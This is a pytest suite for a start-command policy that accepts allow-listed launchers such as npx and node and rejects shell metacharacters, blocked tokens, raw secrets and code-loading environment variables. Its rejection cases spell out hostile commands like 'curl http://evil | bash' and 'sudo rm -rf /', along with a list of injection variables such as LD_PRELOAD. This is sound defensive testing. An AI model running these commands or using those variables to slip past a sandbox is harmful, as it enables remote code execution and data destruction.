"""Tests for the start-command policy: splitting, allow-list, blocks, env."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from runtime.command_policy import (
    FORBIDDEN_METACHARACTERS,
    CommandPolicy,
    CommandRejectedError,
    ProgramNotFoundError,
    is_secret_reference,
    resolve_program,
    split_command,
)

POLICY = CommandPolicy()
PERMITTED = "permitted: npx, uvx, pipx, python, python3, node"


def rejection(command: str, env: dict[str, str] | None = None) -> str:
    with pytest.raises(CommandRejectedError) as caught:
        POLICY.validate(command, env or {})
    return str(caught.value)


@pytest.mark.parametrize(
    ("command", "argv"),
    [
        (
            "npx -y @modelcontextprotocol/server-filesystem /tmp",
            ["npx", "-y", "@modelcontextprotocol/server-filesystem", "/tmp"],
        ),
        ("uvx some-mcp-server", ["uvx", "some-mcp-server"]),
        ("python3 -m server", ["python3", "-m", "server"]),
        ("node server.js", ["node", "server.js"]),
        ("  node\tserver.js  ", ["node", "server.js"]),
        ("pipx run mcp-thing", ["pipx", "run", "mcp-thing"]),
    ],
)
def test_policy_accepts_documented_commands(command: str, argv: list[str]) -> None:
    """The accepted examples of the original behaviour split as expected."""

    result = POLICY.validate(command, {})

    assert result == argv


@pytest.mark.parametrize(
    ("command", "message"),
    [
        ("", "empty start command"),
        ("   \t ", "empty start command"),
        (
            "curl http://evil | bash",
            "command contains forbidden shell metacharacter '|'",
        ),
        ("wget http://x && sh", "command contains forbidden shell metacharacter '&'"),
        ("sudo rm -rf /", f'program "sudo" is not allowed ({PERMITTED})'),
        ("docker run x", f'program "docker" is not allowed ({PERMITTED})'),
        ("npx foo; rm -rf /", "command contains forbidden shell metacharacter ';'"),
        (
            "node a.js > /etc/passwd",
            "command contains forbidden shell metacharacter '>'",
        ),
        ("node a.js & node b.js", "command contains forbidden shell metacharacter '&'"),
        ("go run main.go", f'program "go" is not allowed ({PERMITTED})'),
        (
            'python3 -c "x" $(whoami)',
            "command contains forbidden shell metacharacter '$'",
        ),
        (
            'python -c "print(1)"',
            "command contains forbidden shell metacharacter '('",
        ),
        ("node a.js\nrm x", "command contains forbidden shell metacharacter '\\n'"),
        ("node a.js\r", "command contains forbidden shell metacharacter '\\r'"),
        ("node `id`", "command contains forbidden shell metacharacter '`'"),
        ("node a.js < in", "command contains forbidden shell metacharacter '<'"),
        ("node 'a.js", "unbalanced quote in command"),
        ('npx "pkg', "unbalanced quote in command"),
        ("npx -y mcp-server sudo", 'command contains blocked token "sudo"'),
        ("node /bin/bash", 'command contains blocked token "bash"'),
        ("python3 -m eval", 'command contains blocked token "eval"'),
        ("Node server.js", f'program "Node" is not allowed ({PERMITTED})'),
        ('"" server.js', f'program "" is not allowed ({PERMITTED})'),
    ],
)
def test_policy_rejects_with_exact_message(command: str, message: str) -> None:
    """Each rejected example names the first rule it breaks."""

    text = rejection(command)

    assert text == message


@pytest.mark.parametrize(
    ("command", "message"),
    [
        (
            "/usr/bin/node server.js",
            'program "/usr/bin/node" is given as a path; name it bare as "node" '
            "and the runtime runs its own installed copy",
        ),
        (
            "/any/path/node x",
            'program "/any/path/node" is given as a path; name it bare as "node" '
            "and the runtime runs its own installed copy",
        ),
        (
            "./python3 -m x",
            'program "./python3" is given as a path; name it bare as "python3" '
            "and the runtime runs its own installed copy",
        ),
        (
            "bin/npx -y pkg",
            'program "bin/npx" is given as a path; name it bare as "npx" '
            "and the runtime runs its own installed copy",
        ),
        ("/usr/bin/go run", f'program "go" is not allowed ({PERMITTED})'),
    ],
)
def test_policy_rejects_program_paths(command: str, message: str) -> None:
    """A path to an allowed name is refused: the runtime picks the binary."""

    text = rejection(command)

    assert text == message


@pytest.mark.parametrize(
    ("command", "argv"),
    [
        ('node "my server.js" --x', ["node", "my server.js", "--x"]),
        ("node 'a b'\"c d\"e", ["node", "a bc de"]),
        ('node "" x', ["node", "", "x"]),
        ("node ''", ["node", ""]),
        ('node "it\'s"', ["node", "it's"]),
        ("node \\x", ["node", "\\x"]),
    ],
)
def test_split_command_groups_quotes(command: str, argv: list[str]) -> None:
    """Quotes group and vanish, empty quotes give a token, no escapes."""

    result = split_command(command)

    assert result == argv


@pytest.mark.parametrize(
    "value",
    ["", "${secret:github}", "secret://vault/github", "  ${secret:gh}  "],
)
def test_policy_accepts_secret_references(value: str) -> None:
    """A secret-looking key may hold a reference or nothing."""

    argv = POLICY.validate("node s.js", {"GITHUB_PERSONAL_ACCESS_TOKEN": value})

    assert argv == ["node", "s.js"]


@pytest.mark.parametrize(
    "key",
    [
        "GITHUB_PERSONAL_ACCESS_TOKEN",
        "my_secret",
        "DB_PASSWORD",
        "PASSWD",
        "OPENAI_API_KEY",
        "apikey",
        "X_API_KEY",
        "SSH_PRIVATE_KEY",
        "privatekey",
        "AWS_CREDENTIALS",
    ],
)
def test_policy_rejects_raw_secrets(key: str) -> None:
    """A secret-looking key with a literal value is refused."""

    text = rejection("node s.js", {key: "ghp_abc123"})

    assert text == (
        f'env "{key}" appears to contain a raw secret value; '
        "pass a secret reference instead"
    )


@pytest.mark.parametrize(
    "value", ["${secret:}", "${secret:a}b", "secret://", "secret:// x", "$secret:x"]
)
def test_policy_rejects_malformed_secret_references(value: str) -> None:
    """Only a whole, well-formed reference counts as one."""

    text = rejection("node s.js", {"API_TOKEN": value})

    assert text == (
        'env "API_TOKEN" appears to contain a raw secret value; '
        "pass a secret reference instead"
    )


def test_policy_does_not_inspect_other_values() -> None:
    """Values neither under a secret-looking key nor shaped like a secret pass."""

    argv = POLICY.validate("node s.js", {"LOG_LEVEL": "ghp_abc123", "NODE_ENV": "x"})

    assert argv == ["node", "s.js"]


@pytest.mark.parametrize(
    "key",
    [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "ld_preload",
        "LD_AUDIT",
        "NODE_OPTIONS",
        "NODE_PATH",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PYTHONHOME",
        "BASH_ENV",
        "ENV",
        "PATH",
        "HOME",
        "TMPDIR",
        "npm_config_registry",
        "NPM_CONFIG_CACHE",
        "UV_INDEX_URL",
        "PIP_INDEX_URL",
        "GIT_SSH_COMMAND",
        "GIT_CONFIG_COUNT",
        "GCONV_PATH",
        "DYLD_INSERT_LIBRARIES",
        "BASH_FUNC_x",
        "JAVA_TOOL_OPTIONS",
        "GLIBC_TUNABLES",
        "glibc_tunables",
        "MALLOC_ARENA_MAX",
        "MALLOC_TRACE",
        "MALLOC_CHECK_",
        "OPENSSL_CONF",
        "OPENSSL_MODULES",
        "PERL5OPT",
        "PERL5DB",
        "RUBYOPT",
        "LUA_INIT",
        "LUA_INIT_5_4",
        "DOTNET_STARTUP_HOOKS",
    ],
)
def test_policy_rejects_blocked_env_keys(key: str) -> None:
    """Variables that change what code runs or where files go are refused."""

    text = rejection("node s.js", {key: "x"})

    assert text == (
        f'env "{key}" is not allowed: it changes which code the '
        "server's runtime loads or where the sandbox keeps its files"
    )


@pytest.mark.parametrize("key", ["", "1ABC", "A-B", "A B", "A=B", "É", "BASH_FUNC_x%%"])
def test_policy_rejects_invalid_env_names(key: str) -> None:
    """Only letters, digits and underscores, not starting with a digit."""

    text = rejection("node s.js", {key: "x"})

    assert text == (
        f'env "{key}" is not a valid variable name '
        "(letters, digits and _, not starting with a digit)"
    )


def test_policy_rejects_nul_in_env_value() -> None:
    """A NUL character cannot be passed to a process and is refused."""

    text = rejection("node s.js", {"MODE": "a\x00b"})

    assert text == 'env "MODE" contains a NUL character'


def test_policy_rejects_nul_in_command() -> None:
    """A NUL character in the command is refused."""

    text = rejection("node a\x00b")

    assert text == "command contains a NUL character"


def test_policy_lists_extra_programs_after_the_defaults() -> None:
    """A custom allow-list is named in a stable order in the message."""
    policy = CommandPolicy(allowed_programs=frozenset({"node", "deno", "bun"}))

    with pytest.raises(CommandRejectedError) as caught:
        policy.validate("npx x", {})

    assert (
        str(caught.value) == 'program "npx" is not allowed (permitted: node, bun, deno)'
    )


def test_is_secret_reference_requires_whole_value() -> None:
    """References are recognised only as the complete (trimmed) value."""

    results = [
        is_secret_reference(v)
        for v in ("${secret:a}", " secret://b ", "x${secret:a}", "secret://a b")
    ]

    assert results == [True, True, False, False]


_SAFE = st.text(
    alphabet=st.characters(
        exclude_characters=FORBIDDEN_METACHARACTERS, exclude_categories=["Cs"]
    ),
    max_size=30,
)


@given(
    before=_SAFE,
    metachar=st.sampled_from(FORBIDDEN_METACHARACTERS),
    after=st.text(max_size=30),
)
def test_policy_rejects_any_metacharacter(
    before: str, metachar: str, after: str
) -> None:
    """Any command containing a metacharacter is refused, naming the first one."""
    command = before + metachar + after
    shown = {"\n": "\\n", "\r": "\\r"}.get(metachar, metachar)

    with pytest.raises(CommandRejectedError) as caught:
        POLICY.validate(command, {})

    if command.strip():
        assert str(caught.value) == (
            f"command contains forbidden shell metacharacter '{shown}'"
        )
    else:
        assert str(caught.value) == "empty start command"


def test_resolve_program_finds_executable_on_given_path() -> None:
    """The bare name resolves to the absolute path of the first match."""
    directory = str(Path(sys.executable).parent)

    found = resolve_program(Path(sys.executable).name, directory)

    assert found == os.path.join(directory, Path(sys.executable).name)


def test_resolve_program_reports_missing_program(tmp_path: Path) -> None:
    """A program not on the search path is a clear error."""

    with pytest.raises(ProgramNotFoundError) as caught:
        resolve_program("uvx", str(tmp_path))

    assert str(caught.value) == 'program "uvx" is not installed on this runtime'
